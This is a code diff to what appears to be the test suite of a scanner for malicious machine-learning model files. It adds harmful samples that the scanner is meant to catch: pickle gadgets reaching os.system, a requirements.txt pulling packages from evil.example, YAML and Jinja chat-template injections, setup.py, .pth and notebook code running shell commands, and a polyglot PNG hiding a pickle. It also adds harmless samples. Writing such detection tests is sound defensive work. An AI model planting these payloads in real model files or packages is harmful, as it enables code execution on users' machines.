@@ -102,6 +102,41 @@ HARMFUL_PICKLES = {
     "numpy memmap": p_call("numpy", "memmap", p_str("/etc/passwd")),
     "joblib memory": p_call("joblib.memory", "Memory", p_str("/tmp/x")),
     "lightning cloud": p_call("lightning.fabric.utilities.cloud_io", "_load", p_str("http://127.0.0.1:9/x")),
+    "finalize": p_call("weakref", "finalize", p_name("collections", "OrderedDict"), SYSTEM, TRUE),
+    "timer": p_call("threading", "Timer", ONE, SYSTEM),
+    "formatter": p_call("operator", "methodcaller", p_str("format"), p_str("{0.__class__}")) + p_tuple(p_call("string", "Formatter")) + b"R",
+    "singledispatch": p_call("functools", "singledispatch", SYSTEM),
+    "methodtype": p_call("types", "MethodType", SYSTEM, TRUE),
+    "parallel": p_call("sklearn.utils.parallel", "Parallel") + p_tuple(p_list(p_tuple(SYSTEM, p_tuple(TRUE), p_dict()))) + b"R",
+    "rk45": p_call("scipy.integrate._ivp.rk", "RK45", SYSTEM, ONE, ONE, ONE),
+    "evalfactor": p_call("patsy.eval", "EvalFactor", p_str("__import__('os')")),
+    "worker": p_call("torch.utils.data._utils.worker", "_worker_loop"),
+    "vectorize": p_call("numpy", "vectorize", SYSTEM) + p_tuple(p_list(TRUE)) + b"R",
+    "frompyfunc ufunc": p_call("numpy", "frompyfunc", SYSTEM, ONE, ONE),
+    "defaultdict missing": p_call("collections", "defaultdict", p_call("functools", "partial", SYSTEM, TRUE)),
+    "Counter subclass patched": p_name("collections", "Counter") + p_dict((p_str("__missing__"), SYSTEM)) + b"b",
+    "deque maxlen": p_call("collections", "deque", p_call("builtins", "map", p_name("builtins", "exec"), p_list(TRUE))),
+    "dict of class": p_call("builtins", "type", p_str("X"), p_tuple(), p_dict((p_str("__reduce__"), SYSTEM))),
+    "getattr dunder": p_call("builtins", "getattr", p_name("builtins", "dict"), p_str("__subclasses__")),
+    "attrgetter dunder": p_call("operator", "attrgetter", p_str("__class__.__base__")) + p_tuple(ONE) + b"R",
+    "codecs": p_call("codecs", "decode", p_bytes(b"x"), p_str("zlib_codec")),
+    "sre": p_call("re", "template", TRUE),
+    "uuid": p_call("uuid", "_popen", TRUE, TRUE),
+    "platform": p_call("platform", "_syscmd_file", TRUE),
+    "ctypes util": p_call("ctypes.util", "find_library", TRUE),
+    "imaplib": p_call("imaplib", "IMAP4_stream", TRUE),
+    "tarfile": p_call("tarfile", "open", TRUE),
+    "xml": p_call("xml.etree.ElementTree", "parse", p_str("/etc/passwd")),
+    "torch jit": p_call("torch.jit._script", "script", TRUE),
+    "tf function": p_call("tensorflow.python.ops.script_ops", "py_func", SYSTEM),
+    "keras utils": p_call("keras.utils", "get_file", TRUE),
+    "hub": p_call("timm.models._hub", "load_model_config_from_hf", TRUE),
+    "open by os": p_call("posix", "open", TRUE, ONE),
+    "memo swap": b"cos\nsystem\nq\x01ccollections\nOrderedDict\nq\x020h\x01" + p_tuple(TRUE) + b"R",
+    "ext": b"\x82\x01" + p_tuple(TRUE) + b"R",
+    "obj": b"(" + SYSTEM + TRUE + b"o",
+    "inst": b"(" + TRUE + b"iposix\nsystem\n",
+    "proto0 unicode": b"cposix\nsystem\n(V\\u0074rue\ntR",
 }
 
 HARMLESS_PICKLES = {
@@ -131,6 +166,24 @@ HARMLESS_PICKLES = {
     "device": p_call("torch", "device", p_str("cuda"), b"K\x00"),
     "size": p_call("torch", "Size", p_tuple(ONE, ONE)),
     "time zone": p_call("zoneinfo", "ZoneInfo._unpickle", p_str("Europe/Zurich"), ONE),
+    "namedtuple": p_call("sklearn.utils._bunch", "Bunch") + b"",
+    "random": p_call("random", "Random"),
+    "tokenizer": p_name("transformers.tokenization_utils_base", "BatchEncoding") + b")\x81" + p_dict() + b"b",
+    "pandas index": p_call("pandas.core.indexes.base", "_new_Index", p_name("pandas.core.indexes.base", "Index"), p_dict()),
+    "lgbm": p_name("lightgbm.sklearn", "LGBMClassifier") + b")\x81" + p_dict() + b"b",
+    "xgb": p_name("xgboost.sklearn", "XGBClassifier") + b")\x81" + p_dict() + b"b",
+    "pipeline": p_name("sklearn.pipeline", "Pipeline") + b")\x81" + p_dict((p_str("steps"), p_list(p_tuple(p_str("a"), p_name("sklearn.preprocessing._data", "StandardScaler") + b")\x81")))) + b"b",
+    "nn module": p_name("torch.nn.modules.linear", "Linear") + b")\x81" + p_dict((p_str("training"), b"\x88")) + b"b",
+    "dtype": p_call("numpy", "dtype", p_str("V8"), b"\x89", b"\x88"),
+    "slice": p_call("builtins", "slice", ONE, ONE, ONE),
+    "complex": p_call("builtins", "complex", ONE, ONE),
+    "frozenset": p_call("builtins", "frozenset", p_list(ONE)),
+    "bytearray": p_call("builtins", "bytearray", p_bytes(b"a")),
+    "tz": p_call("pytz", "_UTC"),
+    "ts": p_call("pandas._libs.tslibs.timestamps", "_unpickle_timestamp", ONE, NONE, NONE, ONE),
+    "torch dtype": p_name("torch", "float32"),
+    "torch qscheme": p_name("torch", "per_tensor_affine"),
+    "param": p_call("torch._utils", "_rebuild_parameter", NONE, b"\x88", p_name("collections", "OrderedDict") + b")R"),
 }
 
 # ---- containers ---------------------------------------------------------------------------------------
@@ -435,6 +488,21 @@ HARMFUL_FOLDERS = {
     "mlflow": {"MLmodel": "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    data: model.pkl\n", "model.pkl": EVIL},
     "requirements": {"requirements.txt": "numpy\n--index-url http://evil.example/simple\nevil @ http://evil.example/evil.tar.gz\n"},
     "jsonpickle": {"state.json": {"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}},
+    "trust string": {"config.json": {**CONFIG, "trust_remote_code": "true"}},
+    "custom pipelines": {"config.json": {**CONFIG, "custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}}},
+    "automap list": {"config.json": {**CONFIG, "auto_map": {"AutoModel": ["a.B", "../c.D"]}}},
+    "yaml new": {"x.yaml": "a: !!python/object/new:os.system ['true']\n"},
+    "yaml module": {"x.yml": "a: !!python/module:os ''\n"},
+    "jinja file": {"chat_template.jinja": "{%- for m in messages -%}{{ m.content }}{%- endfor -%}{{ cycler.__init__.__globals__.os.popen('true').read() }}"},
+    "templates list": {"tokenizer_config.json": {"chat_template": [{"name": "default", "template": "{{ x }}"}, {"name": "tool_use", "template": "{{ ''.__class__ }}"}]}},
+    "setup": {"setup.py": "from setuptools import setup\nimport os\nos.system('true')\nsetup()\n"},
+    "pth": {"x.pth": "import os;os.system('true')\n"},
+    "init": {"__init__.py": "getattr(__import__('subprocess'),'run')(['true'])\n"},
+    "b64": {"modeling_x.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
+    "compile": {"m.py": "import builtins\nbuiltins.__dict__['exec']('1')\n"},
+    "globals": {"m.py": "globals()['__builtins__']['eval']('1')\n"},
+    "sysmodules": {"m.py": "import sys\nsys.modules['os'].system('true')\n"},
+    "notebook": {"x.ipynb": {"cells": [{"cell_type": "code", "metadata": {}, "source": ["import os\n", "os.system('true')\n"], "outputs": []}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}},
 }
 HARMLESS_FOLDERS = {
     "usual": {"config.json": CONFIG, "generation_config.json": {"temperature": 0.7, "eos_token_id": [1, 2]}, "tokenizer.json": TOKENIZER,
@@ -451,6 +519,35 @@ HARMLESS_FOLDERS = {
     "yaml": {"config.yaml": "model: &m\n  name: x\n  layers: [1, 2]\nother: *m\n"},
     "mlflow": {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    python_version: 3.11.0\n", "requirements.txt": "mlflow==2.9\nscikit-learn==1.5.0\n"},
     "notebook": {"train.ipynb": {"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Training"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}},
+    "py": {"modeling.py": "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        return getattr(self, self.name)(x)\n"},
+    "md": {"README.md": "# x\nUse `pickle.load` never. os.system('rm')\n"},
+    "txt": {"vocab.txt": "[PAD]\n[UNK]\nos\nsystem\n", "merges.txt": "#version: 0.2\na b\n"},
+    "csv": {"data.csv": "a,b\n1,=cmd|' /C calc'!A0\n"},
+    "preproc": {"preprocessor_config.json": {"image_processor_type": "CLIPImageProcessor", "size": {"shortest_edge": 224}}},
+    "gen": {"generation_config.json": {"_from_model_config": True, "transformers_version": "4.40.0"}},
+    "spm": {"special_tokens_map.json": {"additional_special_tokens": ["<|im_start|>"]}, "added_tokens.json": {"<a>": 5}},
+    "trainer": {"trainer_state.json": {"log_history": [{"loss": float(1)}], "best_model_checkpoint": None}, "all_results.json": {"eval_loss": 0.5}},
+    "lora": {"adapter_config.json": {"peft_type": "LORA", "auto_mapping": None, "base_model_name_or_path": "/home/u/models/x", "modules_to_save": None}},
+    "dockerfile": {"Dockerfile": "FROM python:3.11\nRUN pip install torch\n"},
+    "gitattributes": {".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n"},
+}
+
+# ---- the rest -----------------------------------------------------------------------------------------------------------------
+
+HARMFUL_OTHERS = {
+    "gguf named template": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + g_str("tokenizer.chat_template.rag") + struct.pack("<I", 8) + g_str("{{ ''.__class__.__mro__ }}"),
+    "keras custom obj": keras(layer("Sequential", "keras", layers=[{**DENSE, "registered_name": "pkg>Evil"}])),
+    "keras h5-like json":  json.dumps({'class_name':'Sequential','config':{'layers':[{'class_name':'Lambda','config':{'function':['4wE=',None,None],'function_type':'lambda'}}]}}).encode(),
+    "onnx mlops": onnx(graph(op=node("X", "ai.onnx.preview.custom"))),
+    "npy header code": npy("__import__('os').system('true')","(1,)",b''),
+    "zip in polyglot png": b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(17) + zipped({"data.pkl": EVIL}),
+    "tar pickles": tarred({"a.pkl": EVIL}),
+    "zlib in npz": zipped({"x": zlib.compress(objects())}),
+}
+HARMLESS_OTHERS = {
+    "zip of docs": zipped({"a.txt": "x", "b/c.json": {"a": 1}}, zipfile.ZIP_DEFLATED),
+    "tgz": tarred({"a/b.txt": b"x\n"}, "w:gz"),
+    "lightgbm txt": b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\nobjective=binary sigmoid:1\n\nTree=0\nnum_leaves=2\n",
 }
 
 # ---- of no format that is known: not clean, and no more can be said -----------------------------------------------------------
@@ -475,12 +572,12 @@ def all_of(pickles, **kinds):
 
 def harmful():
     return all_of(HARMFUL_PICKLES, container=HARMFUL_CONTAINERS, keras=HARMFUL_KERAS, onnx=HARMFUL_ONNX, gguf=HARMFUL_TEMPLATES,
-                  safetensors=HARMFUL_SAFETENSORS, folder=HARMFUL_FOLDERS)
+                  safetensors=HARMFUL_SAFETENSORS, folder=HARMFUL_FOLDERS, other=HARMFUL_OTHERS)
 
 
 def harmless():
     return all_of(HARMLESS_PICKLES, container=HARMLESS_CONTAINERS, keras=HARMLESS_KERAS, onnx=HARMLESS_ONNX, gguf=HARMLESS_TEMPLATES,
-                  safetensors=HARMLESS_SAFETENSORS, folder=HARMLESS_FOLDERS)
+                  safetensors=HARMLESS_SAFETENSORS, folder=HARMLESS_FOLDERS, other=HARMLESS_OTHERS)
 
 
 def doubtful():
